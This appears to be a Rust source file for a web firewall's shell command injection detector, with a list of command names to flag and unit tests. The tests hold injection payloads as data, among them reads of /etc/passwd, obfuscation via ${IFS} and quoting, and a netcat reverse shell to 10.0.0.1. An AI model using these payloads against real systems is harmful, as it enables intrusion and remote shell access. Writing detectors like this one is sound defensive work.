//! Shell command injection detector.
//!
//! The detector finds a command separator (`;`, `|`, `||`, `&&`, `&`, a newline) or a
//! substitution (`` `...` ``, `$(...)`) and reads the next shell word the way a shell would,
//! removing the quotes and backslashes of `c'a't` or `w\hoami` and the empty `$@`. It reports
//! the word when it names a known command and what follows looks like a command line: a
//! flag, a path, a URL, a redirection, the end of the value, or another separator. English words that are also
//! command names (`cat`, `more`, `find`, `type`) need an argument that looks like code, so
//! that "Dogs; cat toys" and "Home | Find us" pass.

use super::rules::RuleId;
use super::sqli::Hit;

/// How much evidence a command name needs before it counts.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Class {
    /// Never an ordinary word (`whoami`, `wget`): any argument will do.
    Strong,
    /// Short tool names (`id`, `ls`): need a code-like argument or the end of the line.
    Plain,
    /// Also an English word (`cat`, `find`): needs a code-like argument.
    English,
}

/// Command names, sorted.
const COMMANDS: &[(&str, Class)] = &[
    ("awk", Class::Strong),
    ("base64", Class::Strong),
    ("bash", Class::Strong),
    ("bitsadmin", Class::Strong),
    ("cat", Class::English),
    ("certutil", Class::Strong),
    ("chmod", Class::Strong),
    ("chown", Class::Strong),
    ("cmd", Class::Plain),
    ("copy", Class::English),
    ("cp", Class::Plain),
    ("crontab", Class::Strong),
    ("csh", Class::Strong),
    ("curl", Class::Strong),
    ("dash", Class::English),
    ("dd", Class::English),
    ("del", Class::English),
    ("df", Class::English),
    ("dig", Class::English),
    ("dir", Class::English),
    ("du", Class::English),
    ("echo", Class::English),
    ("env", Class::English),
    ("eval", Class::English),
    ("exec", Class::English),
    ("find", Class::English),
    ("ftp", Class::Plain),
    ("grep", Class::Strong),
    ("head", Class::English),
    ("history", Class::English),
    ("host", Class::English),
    ("hostname", Class::Strong),
    ("id", Class::Plain),
    ("ifconfig", Class::Strong),
    ("ip", Class::English),
    ("ipconfig", Class::Strong),
    ("kill", Class::English),
    ("ksh", Class::Strong),
    ("less", Class::English),
    ("ls", Class::Plain),
    ("lua", Class::English),
    ("mkfifo", Class::Strong),
    ("more", Class::English),
    ("mount", Class::English),
    ("mshta", Class::Strong),
    ("mv", Class::Plain),
    ("nc", Class::Strong),
    ("ncat", Class::Strong),
    ("net", Class::English),
    ("netcat", Class::Strong),
    ("netsh", Class::Strong),
    ("netstat", Class::Strong),
    ("nl", Class::English),
    ("node", Class::English),
    ("nohup", Class::Strong),
    ("nslookup", Class::Strong),
    ("perl", Class::English),
    ("php", Class::English),
    ("ping", Class::English),
    ("powershell", Class::Strong),
    ("printenv", Class::Strong),
    ("printf", Class::Plain),
    ("ps", Class::Plain),
    ("pwd", Class::Plain),
    ("pwsh", Class::Strong),
    ("python", Class::English),
    ("python2", Class::Strong),
    ("python3", Class::Strong),
    ("reg", Class::English),
    ("rm", Class::Plain),
    ("ruby", Class::English),
    ("rundll32", Class::Strong),
    ("scp", Class::Plain),
    ("sed", Class::Strong),
    ("set", Class::English),
    ("sh", Class::Plain),
    ("sleep", Class::English),
    ("socat", Class::Strong),
    ("ssh", Class::Plain),
    ("start", Class::English),
    ("sudo", Class::Strong),
    ("systeminfo", Class::Strong),
    ("tac", Class::English),
    ("tail", Class::English),
    ("tar", Class::English),
    ("tasklist", Class::Strong),
    ("tee", Class::English),
    ("telnet", Class::Strong),
    ("tftp", Class::Plain),
    ("timeout", Class::English),
    ("touch", Class::English),
    ("traceroute", Class::Strong),
    ("type", Class::English),
    ("uname", Class::Strong),
    ("ver", Class::English),
    ("wget", Class::Strong),
    ("whoami", Class::Strong),
    ("wmic", Class::Strong),
    ("xargs", Class::Strong),
    ("xterm", Class::Strong),
    ("zsh", Class::Strong),
];

/// Where the value came from, which decides how much a newline or backtick means.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Context {
    /// Path, query, header or cookie: no legitimate newlines.
    Head,
    /// Body field or text: newlines and markdown backticks are normal.
    Body,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Separator {
    /// `;`, `|`, `||`, `&&`.
    Strong,
    /// A single `&`, common in prose ("Tom & Jerry").
    Ampersand,
    Newline,
    /// `` ` `` or `$(`.
    Substitution,
}

fn lookup(word: &[u8]) -> Option<Class> {
    if word.is_empty() || word.len() > 16 {
        return None;
    }
    let mut buffer = [0u8; 16];
    for (slot, byte) in buffer.iter_mut().zip(word) {
        *slot = byte.to_ascii_lowercase();
    }
    let lower = &buffer[..word.len()];
    COMMANDS
        .binary_search_by(|(name, _)| name.as_bytes().cmp(lower))
        .ok()
        .and_then(|index| COMMANDS.get(index))
        .map(|(_, class)| *class)
}

/// Maximum bytes after a command name that the argument checks read.
const MAX_ARGUMENT_BYTES: usize = 256;

/// Maximum length of a shell word read after a separator. Longer words are no command name.
const MAX_WORD: usize = 64;

/// A shell word with quotes removed, lowercased, on the stack.
struct ShellWord {
    bytes: [u8; MAX_WORD],
    length: usize,
}

impl ShellWord {
    fn as_slice(&self) -> &[u8] {
        &self.bytes[..self.length]
    }
}

/// Command injection detector for one decoded value.
pub(crate) struct Detector<'a> {
    bytes: &'a [u8],
    context: Context,
}

impl<'a> Detector<'a> {
    pub(crate) fn new(text: &'a str, context: Context) -> Self {
        Detector {
            bytes: text.as_bytes(),
            context,
        }
    }

    fn byte(&self, at: usize) -> Option<u8> {
        self.bytes.get(at).copied()
    }

    pub(crate) fn detect(&self, hits: &mut Vec<Hit>) {
        let mut i = 0;
        while i < self.bytes.len() {
            let byte = self.bytes[i];
            let (separator, length) = match byte {
                b';' => (Separator::Strong, 1),
                b'|' => (
                    Separator::Strong,
                    if self.byte(i + 1) == Some(b'|') { 2 } else { 1 },
                ),
                b'&' if self.byte(i + 1) == Some(b'&') => (Separator::Strong, 2),
                b'&' => (Separator::Ampersand, 1),
                b'\n' | b'\r' => (Separator::Newline, 1),
                b'`' if self.byte(i + 1) == Some(b'`') || (i > 0 && self.bytes[i - 1] == b'`') => {
                    i += 1;
                    continue;
                }
                b'`' => (Separator::Substitution, 1),
                b'$' if self.byte(i + 1) == Some(b'(') && self.byte(i + 2) != Some(b'(') => {
                    (Separator::Substitution, 2)
                }
                _ => {
                    i += 1;
                    continue;
                }
            };
            if let Some(rule) = self.command_after(i + length, separator, byte == b'|') {
                let end = (i + 32).min(self.bytes.len());
                if !hits.iter().any(|(existing, _)| *existing == rule) {
                    hits.push((rule, i..end));
                }
            }
            i += length;
        }
    }

    /// Checks for a command word at `start`, after a separator.
    fn command_after(&self, start: usize, separator: Separator, pipe: bool) -> Option<RuleId> {
        let mut i = self.skip_blanks(start);
        // Grouping and brace characters may precede the command: `;{id}`, `|(id)`.
        while matches!(self.byte(i), Some(b'{' | b'(')) {
            i = self.skip_blanks(i + 1);
        }
        let (word, end) = self.shell_word(i)?;
        let name = command_name(word.as_slice());
        let class = lookup(name)?;
        let after = self.skip_blanks(end);
        let next = self.byte(after);
        let ends_line = match next {
            None => true,
            Some(b) => matches!(
                b,
                b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'#' | b'>' | b'<' | b')' | b'}'
            ),
        };
        let has_argument = after > end && !ends_line;
        let code_argument = self.code_argument(after, name);
        let plausible = match (class, separator) {
            (_, _) if code_argument => true,
            (Class::Strong, Separator::Strong | Separator::Newline | Separator::Substitution) => {
                ends_line || has_argument
            }
            (Class::Strong | Class::Plain, Separator::Ampersand) => ends_line && after == end,
            (Class::Plain, _) => ends_line,
            // `;id` style adjacency makes an English command name plausible.
            (Class::English, Separator::Substitution) => ends_line,
            (Class::English, _) => false,
        };
        if !plausible {
            return None;
        }
        if separator == Separator::Substitution && !self.substitution_closed(start) {
            return None;
        }
        if separator == Separator::Substitution {
            // A backtick span set in prose is more often markdown inline code than a
            // substitution, in any part of the request.
            let backtick = self.bytes.get(start.wrapping_sub(1)) == Some(&b'`');
            let rule = if backtick && self.backtick_in_prose(start - 1) {
                RuleId::CMD_BODY_TEXT
            } else {
                RuleId::CMD_SUBSTITUTION
            };
            return Some(rule);
        }
        // Markdown tables (`| id |`) and line starts are common in body text.
        let weak_in_body =
            separator == Separator::Newline || (pipe && !code_argument && class != Class::Strong);
        let rule = match self.context {
            Context::Body if weak_in_body => RuleId::CMD_BODY_TEXT,
            _ => RuleId::CMD_SEPARATOR,
        };
        Some(rule)
    }

    /// Returns whether the substitution opened just before `start` is closed by `` ` `` or
    /// `)`.
    fn substitution_closed(&self, start: usize) -> bool {
        let opener = self.bytes.get(start.saturating_sub(1)).copied();
        let closer = if opener == Some(b'`') { b'`' } else { b')' };
        memchr::memchr(closer, &self.bytes[start.min(self.bytes.len())..]).is_some()
    }

    /// Returns whether the backtick span opening at `open` reads as markdown inline code in
    /// prose: it starts the value or follows a blank or `(`, its closing backtick ends the
    /// value or is followed by a blank or punctuation, and the value has other text besides
    /// the span. A span that is the whole value, or that touches a shell construct such as
    /// `x=` or `;`, is a substitution.
    fn backtick_in_prose(&self, open: usize) -> bool {
        let Some(length) = memchr::memchr(b'`', &self.bytes[open + 1..]) else {
            return false;
        };
        let close = open + 1 + length;
        let opens_cleanly =
            open == 0 || matches!(self.bytes[open - 1], b' ' | b'\t' | b'\n' | b'\r' | b'(');
        let closes_cleanly = self.byte(close + 1).is_none_or(|b| {
            b.is_ascii_whitespace() || matches!(b, b'.' | b',' | b':' | b'!' | b'?' | b')')
        });
        let text_outside = self.bytes[..open]
            .iter()
            .chain(&self.bytes[close + 1..])
            .any(|b| b.is_ascii_alphanumeric());
        opens_cleanly && closes_cleanly && text_outside
    }

    /// Skips spaces, tabs and the `${IFS}` / `$IFS` field separators.
    fn skip_blanks(&self, mut i: usize) -> usize {
        loop {
            match self.byte(i) {
                Some(b' ' | b'\t' | 0x0B | 0x0C) => i += 1,
                Some(b'$') => {
                    let rest = &self.bytes[i + 1..];
                    if rest.len() >= 5 && rest[..5].eq_ignore_ascii_case(b"{ifs}") {
                        i += 6;
                    } else if rest.len() >= 3 && rest[..3].eq_ignore_ascii_case(b"ifs") {
                        i += 4;
                        if self.byte(i) == Some(b'$')
                            && self.byte(i + 1).is_some_and(|b| b.is_ascii_digit())
                        {
                            i += 2;
                        }
                    } else {
                        return i;
                    }
                }
                _ => return i,
            }
        }
    }

    /// Reads one shell word starting at `start`, removing quotes, backslashes and the empty
    /// expansions `$@`, `$*` and `$1`..`$9`. Returns the word and the index after it.
    fn shell_word(&self, start: usize) -> Option<(ShellWord, usize)> {
        let mut word = ShellWord {
            bytes: [0; MAX_WORD],
            length: 0,
        };
        let mut i = start;
        while let Some(byte) = self.byte(i) {
            match byte {
                b'\'' | b'"' | b'\\' => i += 1,
                b'$' if matches!(self.byte(i + 1), Some(b'@' | b'*' | b'0'..=b'9')) => i += 2,
                b if b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-') => {
                    if word.length == MAX_WORD {
                        return None;
                    }
                    word.bytes[word.length] = b.to_ascii_lowercase();
                    word.length += 1;
                    i += 1;
                }
                _ => break,
            }
        }
        (word.length > 0).then_some((word, i))
    }

    /// Whether the argument at `at` looks like part of a command line rather than prose:
    /// a flag, a path, a variable, a redirection, a URL, a drive letter, a number for
    /// `sleep` and `ping`, a host name for network tools, a subcommand of `net`, or a
    /// redirection later on the same command line.
    fn code_argument(&self, at: usize, command: &[u8]) -> bool {
        let Some(first) = self.byte(at) else {
            return false;
        };
        let second = self.byte(at + 1);
        // The argument checks look at most MAX_ARGUMENT_BYTES ahead, so that many separators
        // cost linear time.
        let rest = &self.bytes[at..(at + MAX_ARGUMENT_BYTES).min(self.bytes.len())];
        let word_end = rest
            .iter()
            .position(|&b| b.is_ascii_whitespace() || matches!(b, b';' | b'|' | b'&' | b'`' | b')'))
            .unwrap_or(rest.len());
        let word = &rest[..word_end];
        let line_end = rest.iter().position(|&b| b == b'\n').unwrap_or(rest.len());
        let redirects = memchr::memmem::find(&rest[..line_end], b"> /").is_some()
            || memchr::memmem::find(&rest[..line_end], b">/").is_some()
            || memchr::memmem::find(&rest[..line_end], b">>").is_some()
            || memchr::memmem::find(&rest[..line_end], b"2>&1").is_some();
        if redirects {
            return true;
        }
        match first {
            b'-' | b'+' => second.is_some_and(|b| b.is_ascii_alphanumeric() || b == b'-'),
            b'/' | b'~' | b'$' | b'%' | b'\\' | b'>' | b'<' | b'{' => true,
            b'.' => matches!(second, Some(b'/' | b'.')),
            b'0'..=b'9' if matches!(command, b"sleep" | b"ping" | b"timeout" | b"kill") => {
                let mut end = at;
                while self
                    .byte(end)
                    .is_some_and(|b| b.is_ascii_digit() || b == b'.')
                {
                    end += 1;
                }
                let after = self.skip_blanks(end);
                matches!(
                    self.byte(after),
                    None | Some(b';' | b'|' | b'&' | b'#' | b'`' | b')' | b'\n')
                )
            }
            b if b.is_ascii_alphabetic()
                && second == Some(b':')
                && matches!(self.byte(at + 2), Some(b'\\' | b'/')) =>
            {
                true
            }
            _ if is_network_tool(command) && is_host_name(word) => true,
            _ if command == b"net" => matches!(
                word,
                b"user"
                    | b"users"
                    | b"localgroup"
                    | b"group"
                    | b"view"
                    | b"share"
                    | b"use"
                    | b"accounts"
            ),
            _ => {
                starts_with_ignore_case(rest, b"http://")
                    || starts_with_ignore_case(rest, b"https://")
                    || starts_with_ignore_case(rest, b"ftp://")
            }
        }
    }
}

fn is_network_tool(command: &[u8]) -> bool {
    matches!(
        command,
        b"ping"
            | b"dig"
            | b"host"
            | b"nslookup"
            | b"curl"
            | b"wget"
            | b"nc"
            | b"ncat"
            | b"telnet"
            | b"ssh"
            | b"ftp"
            | b"tftp"
            | b"traceroute"
    )
}

/// Returns whether `word` is a dotted host name or IPv4 address such as `evil.example` or
/// `10.0.0.1`.
fn is_host_name(word: &[u8]) -> bool {
    let labels = word.split(|&b| b == b'.');
    let mut count = 0;
    for label in labels {
        if label.is_empty()
            || !label
                .iter()
                .all(|b| b.is_ascii_alphanumeric() || *b == b'-')
        {
            return false;
        }
        count += 1;
    }
    count >= 2
}

fn starts_with_ignore_case(haystack: &[u8], prefix: &[u8]) -> bool {
    haystack.len() >= prefix.len() && haystack[..prefix.len()].eq_ignore_ascii_case(prefix)
}

/// Strips a directory (`/usr/bin/id`) and a `.exe` suffix from a command word.
fn command_name(word: &[u8]) -> &[u8] {
    let base = match word.iter().rposition(|&b| b == b'/') {
        Some(at) => &word[at + 1..],
        None => word,
    };
    if base.len() > 4 && base[base.len() - 4..].eq_ignore_ascii_case(b".exe") {
        &base[..base.len() - 4]
    } else {
        base
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str, context: Context) -> Vec<u32> {
        let mut hits = Vec::new();
        Detector::new(text, context).detect(&mut hits);
        hits.iter().map(|(rule, _)| rule.0).collect()
    }

    #[test]
    fn markdown_fences_pass() {
        assert!(rules("```python\nfor i in range(10):\n```", Context::Head).is_empty());
        assert!(rules("`unclosed id", Context::Head).is_empty());
        assert!(rules("| Name | ID | Email |", Context::Body)
            .iter()
            .all(|&id| id == 4008));
    }

    #[test]
    fn commands_sorted() {
        for pair in COMMANDS.windows(2) {
            assert!(pair[0].0 < pair[1].0, "{} before {}", pair[0].0, pair[1].0);
        }
    }

    #[test]
    fn separators_and_commands() {
        for attack in [
            ";id",
            "; cat /etc/passwd",
            "| whoami",
            "x && uname -a",
            "127.0.0.1 || ping -c 10 127.0.0.1",
            "a&whoami",
            "x;c'a't /etc/passwd",
            "x;w\\ho\\am\\i",
            "x;/usr/bin/id",
            ";cat${IFS}/etc/passwd",
            "& ipconfig /all",
            "| dir c:\\",
            "; sleep 10",
            "1|nc -e /bin/sh 10.0.0.1 4444",
            "x;{id}",
            "x\nid",
        ] {
            assert!(
                rules(attack, Context::Head).contains(&4001),
                "{attack}: {:?}",
                rules(attack, Context::Head)
            );
        }
    }

    #[test]
    fn substitutions() {
        assert_eq!(rules("`id`", Context::Head), [4002]);
        assert_eq!(rules("$(whoami)", Context::Head), [4002]);
        assert_eq!(rules("x$(cat /etc/passwd)", Context::Head), [4002]);
        assert_eq!(rules("Run `ls -la` to list", Context::Body), [4008]);
        assert_eq!(rules("use `ls -la` to list", Context::Head), [4008]);
        assert_eq!(rules("`id`", Context::Body), [4002]);
        assert_eq!(rules("  `whoami`  ", Context::Body), [4002]);
        assert_eq!(rules("$(id)", Context::Body), [4002]);
        assert_eq!(rules("see $(cat /etc/passwd) here", Context::Body), [4002]);
        assert_eq!(rules("x=`id`", Context::Body), [4002]);
        assert!(rules("a;`id`", Context::Body).contains(&4002));
        assert_eq!(rules("name`id`", Context::Body), [4002]);
        assert_eq!(rules("`id`.", Context::Body), [4002]);
    }

    #[test]
    fn prose_passes() {
        for benign in [
            "Tom & Jerry",
            "Dogs; cat toys",
            "Home | Find us | Contact",
            "Salt & pepper; type: spicy",
            "eat; sleep 8 hours",
            "R&D",
            "AT&T",
            "Q&A",
            "Bread & butter | cat lovers",
            "this & that",
            "a;b;c",
            "price: $(amount)",
            "Mozilla/5.0 (X11; Linux x86_64)",
            "text/html;q=0.9",
            "echo chamber; more info",
            "rock & roll; set list",
            "$((1+2))",
        ] {
            assert!(
                rules(benign, Context::Head).is_empty(),
                "{benign}: {:?}",
                rules(benign, Context::Head)
            );
        }
    }
}
